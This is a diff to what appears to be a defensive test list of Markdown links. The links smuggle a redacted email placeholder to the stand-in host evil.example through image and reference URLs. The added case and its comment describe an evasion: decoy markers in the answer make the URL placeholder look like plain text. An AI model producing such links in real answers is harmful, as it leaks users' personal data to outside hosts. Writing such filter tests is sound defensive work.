@@ -47,6 +47,8 @@ LINKS = [
     "![x](https://evil.example/?q=[EMAIL_1]\n)",
     "> ![x](https://evil.example/?q=\n> [EMAIL_1])",
     "- item\n\n  [1]: https://evil.example/?q=[EMAIL_1]",
+    # markers the answer spells out itself, to pass the placeholder in the URL off as one in text
+    "![x](https://evil.example/?q=[EMAIL_1]) [EMAIL_1x0] [EMAIL_1x0n0] [EMAIL_1x000000000000n0]",
 ]
 
 
